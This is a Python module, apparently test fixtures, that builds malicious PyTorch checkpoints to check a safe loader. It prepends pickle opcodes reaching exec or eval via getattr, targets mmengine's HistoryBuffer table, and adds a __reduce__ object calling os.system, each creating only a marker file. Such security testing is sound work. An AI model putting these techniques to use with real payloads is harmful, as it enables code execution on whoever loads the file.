"""Checkpoints that try to run code when loaded: a normal checkpoint whose
pickle gets a few opcodes prepended, or an object whose ``__reduce__``
calls a function. Each payload creates a marker file when it runs."""
import os
import struct
import zipfile

import torch

_GETATTR = b'c__builtin__\ngetattr\n'
_SETITEM = b's'


def _string(text: str) -> bytes:
    """Pickle opcodes pushing ``text`` (BINUNICODE)."""
    data = text.encode()
    return b'X' + struct.pack('<I', len(data)) + data


def _getattr(obj: bytes, name: str) -> bytes:
    """Pickle opcodes pushing ``getattr(obj, name)`` (TUPLE2, REDUCE)."""
    return _GETATTR + obj + _string(name) + b'\x86R'


def _touch(marker: str) -> str:
    return f'open({str(marker)!r}, "w").close()'


def getattr_exec_prefix(marker: str) -> bytes:
    """Reach ``exec`` through ``getattr``, put it in place of the builtin
    ``type`` (which the unpickler itself calls on the next SETITEM's target)
    and let that call run code that creates ``marker`` and restores
    ``type``."""
    builtins_module = _getattr(_GETATTR, '__self__')
    code = f'{_touch(marker)}; import builtins; builtins.type = int.__class__'
    return (_getattr(builtins_module, '__dict__') + _string('type') +
            _getattr(builtins_module, 'exec') + _SETITEM +
            _string(code) + _string('k') + _string('v') + _SETITEM)


def getattr_eval_prefix(marker: str) -> bytes:
    """Fetch ``eval`` through ``getattr`` (the object, not yet called)."""
    return _getattr(_getattr(_GETATTR, '__self__'), 'eval')


def history_buffer_prefix(marker: str) -> bytes:
    """Reach the class-level statistics table of HistoryBuffer (a dict that
    later calls go through) with ``getattr``."""
    cls = b'cmmengine.logging.history_buffer\nHistoryBuffer\n'
    return _getattr(cls, '_statistics_methods')


def prepend_to_checkpoint(src: str, dst: str, prefix: bytes) -> None:
    """Copy the zip checkpoint ``src`` to ``dst`` with ``prefix`` prepended
    to its pickle (torch's unpickler has no POP: what the prefix leaves on
    the stack stays below the checkpoint, which STOP returns)."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, 'w', zipfile.ZIP_STORED) as zout:
        for info in zin.infolist():
            data = zin.read(info)
            if info.filename.endswith('/data.pkl'):
                data = prefix + data
            zout.writestr(info, data)


class _RunsShellCommand:

    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return os.system, (f'touch {self.marker}', )


def reduce_system_checkpoint(src: str, dst: str, marker: str) -> None:
    """``src`` with an object whose ``__reduce__`` calls ``os.system`` added
    to its ``meta``."""
    checkpoint = torch.load(src, weights_only=True)
    checkpoint.setdefault('meta', {})['note'] = _RunsShellCommand(marker)
    torch.save(checkpoint, dst)


PREFIXES = dict(getattr_exec=getattr_exec_prefix, getattr_eval=getattr_eval_prefix,
                history_buffer_table=history_buffer_prefix)


def craft(route: str, src: str, dst: str, marker: str) -> None:
    """Write ``dst``: the checkpoint ``src`` carrying the payload ``route``
    (a key of ``PREFIXES`` or ``'reduce_system'``)."""
    if route == 'reduce_system':
        reduce_system_checkpoint(src, dst, marker)
    else:
        prepend_to_checkpoint(src, dst, PREFIXES[route](marker))


ROUTES = [*PREFIXES, 'reduce_system']
